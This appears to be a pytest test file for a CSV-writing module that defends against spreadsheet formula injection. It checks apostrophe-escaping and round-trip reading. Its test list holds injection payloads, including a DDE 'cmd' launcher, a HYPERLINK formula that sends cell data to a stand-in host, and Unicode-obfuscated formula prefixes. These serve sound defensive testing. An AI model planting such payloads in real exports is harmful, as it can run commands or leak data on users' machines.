"""No cell runs in a spreadsheet, and what is read back is what was written."""

import csv
import io

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from analysis.bundles.csv_frames import write_csv
from analysis.bundles.frames import Problems
from analysis.importing.tables.reading import read_table
from stimuli.files.safe_csv import csv_writer, original_cell, safe_cell

RUN = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "  =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
    '"=1+1"',
    "'=1+1",
    "''=1+1",
    "\N{LEFT DOUBLE QUOTATION MARK}=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "\N{SMALL EQUALS SIGN}1",
    "\N{MINUS SIGN}1+A1",
    "-",
    "'-0.07",
    "-0.07 and more",
    "-inf",
    "+49 30 1234",
]
STAY = ["", "-0.07", "+3", "-1.5e-7", "-.5", "12 %", "5%", "a=b", "x-1", "[1,-2]"]
STAY += ['{"a":-1}', "'tis", "'quoted'", "2026-03-01T09:00:00+00:00"]
# A few letters, so that the combinations that matter come up.
TEXTS = st.text(alphabet="=+-@'\" \t\r\n;,a1.0e%＝－\u2212\u200b\ufeff", max_size=9)


@pytest.mark.parametrize("text", RUN)
def test_a_cell_that_a_spreadsheet_runs_gets_an_apostrophe_and_loses_it_again(text):
    assert safe_cell(text) == f"'{text}" or text[0] in "\t\r\n"
    assert safe_cell(text).startswith("'")
    assert original_cell(safe_cell(text)) == text


@pytest.mark.parametrize("text", STAY)
def test_numbers_and_plain_text_stay_as_they_are(text):
    assert safe_cell(text) == text
    assert original_cell(text) == text


def test_a_formula_after_a_semicolon_is_kept_from_running_where_that_ends_a_cell():
    assert safe_cell("fine;=1+1;-0.5;  @x") == "fine;'=1+1;-0.5;'  @x"


@example("'\t")
@example("''=;=")
@given(TEXTS)
def test_every_text_comes_back(text):
    safe = safe_cell(text)
    assert original_cell(safe) == text
    assert not safe.strip(" \"'\u200b\ufeff").startswith("=") or safe.startswith("'")


def test_rows_come_back_through_a_file_and_numbers_are_numbers():
    handle = io.StringIO(newline="")
    csv_writer(handle).writerows([["=a", -0.07, None], ["plain", 3, "\r=b"]])
    assert handle.getvalue().splitlines()[0] == "'=a,-0.07,"
    rows = list(csv.reader(io.StringIO(handle.getvalue(), newline="")))
    assert [[original_cell(c) for c in row] for row in rows] == [
        ["=a", "-0.07", ""],
        ["plain", "3", "\r=b"],
    ]


def test_raw_cells_are_written_as_they_are():
    handle = io.StringIO(newline="")
    csv_writer(handle, is_raw=True, line_end="\n").writerow(["=a"])
    assert handle.getvalue() == "=a\n"


def test_frames_are_written_safely_and_their_numbers_stay(tmp_path):
    frame = pd.DataFrame(
        {
            "=head": ["=1", "plain", None],
            "loss": [-0.07, 1.0, float("nan")],
            "n": pd.array([1, None, -3], dtype="Int64"),
            "kind": pd.Categorical(["@a", "b", "@a"]),
        }
    )
    write_csv(frame, tmp_path / "t.csv", line_end="\n")
    assert (tmp_path / "t.csv").read_text() == (
        "'=head,loss,n,kind\n'=1,-0.07,1,'@a\nplain,1.0,,b\n,,-3,'@a\n"
    )
    write_csv(frame, tmp_path / "raw.csv", is_raw=True, line_end="\n")
    assert (tmp_path / "raw.csv").read_text().startswith("=head,loss,n,kind\n=1,")


@pytest.mark.parametrize("only", [None, ["Answer.=x", "Worker"]])
def test_our_importer_reads_the_original_text_headers_included(tmp_path, only):
    cells = ["=1+1", "-0.07", "'quoted'", "\tx", "@me", "it's"]
    with (tmp_path / "made.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv_writer(handle)
        writer.writerow(["Worker", "=more", "Answer.=x"])
        writer.writerows([f"w{n}", "+", cell] for n, cell in enumerate(cells))
    problems = Problems()
    found = read_table(
        tmp_path / "made.csv", encoding=None, problems=problems, only=only
    )
    assert problems.found == []
    assert found is not None
    assert list(found["Answer.=x"]) == cells
    assert list(found) == (only or ["Worker", "=more", "Answer.=x"])
